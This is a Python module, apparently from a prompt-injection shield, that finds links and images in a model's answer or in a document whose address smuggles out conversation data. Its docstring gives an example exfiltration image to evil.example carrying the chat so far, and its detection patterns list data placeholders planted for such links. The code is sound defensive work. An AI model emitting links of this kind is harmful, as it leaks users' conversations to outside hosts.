"""Links and images whose address carries data: the way a model's answer smuggles the conversation out (an image the
renderer fetches, a link the user clicks: ``![](https://evil.example/log?q=<the chat so far>)``).

``find_links`` finds Markdown links and images, HTML images and bare URLs; ``carried_data`` says why an address looks
like it carries data: a placeholder for it (in a document that plants the link), a long query value, a base64 segment
that decodes to text, or text that is also in the conversation or the documents (in an answer). ``scan_answer`` flags
an answer's links; ``scan_document_links`` flags planted ones in a document. Patterns are bounded and cannot overlap
their own starts: linear in the text's length.
"""

from __future__ import annotations

import re
import urllib.parse
from collections.abc import Iterator, Sequence
from dataclasses import dataclass

import re2

from app.shield.encoded import _b64, _looks_like_base64, readable
from app.shield.flags import Flag, Kind, quoted
from core.messages import Arg, Message

MIN_QUERY_VALUE = 40
"""Characters of one query value from which it carries data (ids and search words are shorter)."""
MIN_KNOWN = 12
"""Characters of a URL piece that must also be in the conversation or documents to count as copied from them."""

def _ignore_case() -> re2.Options:
    options = re2.Options()
    options.case_sensitive = False
    return options


_MD = re.compile(r"\[([^\[\]\n]{0,500})\]\(\s*<?([^\s()<>\[\]]{1,4000})>?(?:\s+\"[^\"\n]{0,200}\")?\s*\)")
"""A Markdown link (an image when a "!" is before it): it starts with "[", so the search skips to each "[" in C."""
_IMG = re.compile(r"<img\b[^<>]{0,2000}?\bsrc\s*=\s*[\"']?([^\"'\s<>]{1,4000})", re.IGNORECASE)
_BARE = re.compile(r"[hH](?<!\w[hH])[tT][tT][pP][sS]?://[^\s<>()\"'\[\]`]{1,4000}")
"""A bare http(s) URL; spelled out rather than case-insensitive with a leading \\b, so the search skips to each "h"."""
_PLACEHOLDER = re.compile(r"\{[^{}]{1,40}\}|\[[A-Za-z_ ]{2,40}\]|<[A-Za-z_ ]{2,40}>|\$\{?[A-Za-z_]{3,}|%s\b|"
                          r"\b(?:insert|put|add|your|user'?s?)[_ -]?(?:data|summary|conversation|chat|history|"
                          r"answer|question|secret|password|name|email|info)|\bconversation\b|\bchat[_ -]?history\b|"
                          r"\bSECRET\b|\bDATA\b|\b(?:QUESTION|SUMMARY|HISTORY|CONVERSATION|ANSWER|FRAGE|VERLAUF|ANTWORT|"
                          r"ZUSAMMENFASSUNG)\b", re.IGNORECASE)  # fmt: skip
_PLACEHOLDER_RE2 = re2.compile(_PLACEHOLDER.pattern, _ignore_case())
"""The same in RE2, which reads an address once in C where Python's ``re`` tries every alternative at every character
(17 us an address): where it finds nothing, neither does ``_PLACEHOLDER`` (RE2's word boundary is ASCII only, so it
finds one wherever Python's does, and more)."""


@dataclass(frozen=True)
class Link:
    """A link or image in a text: ``text[start:end]`` is the whole of it, ``url`` its address."""

    start: int
    end: int
    url: str
    image: bool


def find_links(text: str, start: int = 0, end: int | None = None) -> Iterator[Link]:
    """Markdown links and images, HTML images and bare http(s) URLs in ``text[start:end]``, in order of where they
    start."""
    end = len(text) if end is None else end
    found: list[Link] = []
    covered: set[int] = set()
    for m in _MD.finditer(text, start, end):
        image = m.start() > start and text[m.start() - 1] == "!"
        found.append(Link(m.start() - image, m.end(), m.group(2), image))
        covered.add(m.start(2))
    for m in _IMG.finditer(text, start, end):
        found.append(Link(m.start(), m.end(), m.group(1), True))
        covered.add(m.start(1))
    for m in _BARE.finditer(text, start, end):
        if m.start() not in covered:
            found.append(Link(m.start(), m.end(), m.group().rstrip(".,;:!?"), False))
    yield from sorted(found, key=lambda link: link.start)


def _norm(text: str) -> str:
    return " ".join(text.lower().split())


def _pieces(url: str) -> tuple[list[tuple[str, str]], list[str]] | None:
    """The query's (name, value) pairs and the path's segments, decoded; None when it is no http(s) URL."""
    try:
        parts = urllib.parse.urlsplit(url)
    except ValueError:
        return None
    if parts.scheme.lower() not in ("http", "https"):
        return None
    query = urllib.parse.parse_qsl(parts.query, keep_blank_values=True) if parts.query else []
    segments = [urllib.parse.unquote(s) for s in parts.path.split("/") if s]
    return query, segments


def carried_data(url: str, *, known: Sequence[str] = (), placeholders: bool = True) -> str | None:
    """Why ``url`` looks like it carries data, or None (English; ``_carried`` has it as messages).

    Args:
        known: texts of the conversation and documents (already normalised by ``known_texts``); a piece of the URL
            found in one of them is data copied out, unless the whole URL is in it too (a document's own link).
        placeholders: flag placeholders for data (``{conversation}``, ``[DATA]``): for documents that plant a link.
    """
    why = _carried(url, known=known, placeholders=placeholders)
    return None if why is None else str(why[0])


def _carried(url: str, *, known: Sequence[str], placeholders: bool) -> tuple[Message, Message | None] | None:
    """``carried_data``'s reason as a message ("its address ..."), and as the end of "a link to HOST whose ..." where
    it reads that way (None where it does not)."""
    pieces = _pieces(url)
    if pieces is None:
        return None
    query, segments = pieces
    if placeholders:
        unquoted = urllib.parse.unquote(url)
        m = _PLACEHOLDER.search(unquoted) if _PLACEHOLDER_RE2.search(unquoted) is not None else None
        if m is not None and ("?" in url or m.group().startswith(("{", "[", "<", "$"))):
            return Message("its address has a placeholder for data ({text})", text=quoted(m.group())), None
    for name, value in query:
        if len(value) >= MIN_QUERY_VALUE:
            args: dict[str, Arg] = {"name": quoted(name, 20), "length": str(len(value)), "value": quoted(value)}
            return (Message("its query value {name} is {length} characters long: {value}", **args),
                    Message("query value {name} is {length} characters long: {value}", **args))
    for piece in [v for _, v in query] + segments:
        if len(piece) >= 16 and _looks_like_base64(piece):
            data = _b64(piece)
            text = readable(data) if data is not None else None
            if text is not None:
                return Message("a part of its address is base64 for {text}", text=quoted(text)), None
    if known:
        whole = _norm(urllib.parse.unquote(url))
        if not any(whole in k for k in known):
            for piece in [v for _, v in query] + segments:
                p = _norm(piece.replace("+", " "))
                if len(p) >= MIN_KNOWN and any(p in k for k in known):
                    return (Message("its address carries text from the conversation or documents: {text}", text=quoted(piece)),
                            Message("address carries text from the conversation or documents: {text}", text=quoted(piece)))
    return None


def known_texts(texts: Sequence[str]) -> list[str]:
    """The conversation's and documents' texts, normalised for ``carried_data``."""
    return [_norm(t) for t in texts if t.strip()]


def scan_answer(answer: str, *, known: Sequence[str] = ()) -> list[Flag]:
    """Flags for the links and images of a model's answer whose address carries data.

    Args:
        known: the raw texts of the conversation and the sources the model was given.
    """
    normalised = known_texts(known)
    flags = []
    for link in find_links(answer):
        found = _carried(link.url, known=normalised, placeholders=False)
        if found is not None:
            why, whose = found
            host = _host(link.url)
            if whose is not None:
                said = (Message("an image to {host} whose {why}", host=host, why=whose) if link.image
                        else Message("a link to {host} whose {why}", host=host, why=whose))  # fmt: skip
            else:
                said = _to(link, host, why)
            flags.append(Flag.of(Kind.EXFILTRATION, link.start, link.end, said))
    return flags


def scan_document_links(text: str, start: int = 0, end: int | None = None) -> Iterator[Flag]:
    """Flags for links and images in a document (``text[start:end]``) that are set up to carry data out (placeholders,
    data in the address)."""
    for link in find_links(text, start, end):
        if not link.image and not any(c in link.url for c in "?{[<$%"):
            continue  # a link is flagged only for a placeholder for data, which needs one of these (or their escapes)
        found = _carried(link.url, known=(), placeholders=True)
        if found is not None and (link.image or found[0].template.startswith("its address has a placeholder")):
            yield Flag.of(Kind.EXFILTRATION, link.start, link.end, _to(link, _host(link.url), found[0]))


def _to(link: Link, host: str, why: Message) -> Message:
    return (Message("an image to {host}: {why}", host=host, why=why) if link.image
            else Message("a link to {host}: {why}", host=host, why=why))  # fmt: skip


def _host(url: str) -> str:
    try:
        return urllib.parse.urlsplit(url).hostname or "?"
    except ValueError:
        return "?"
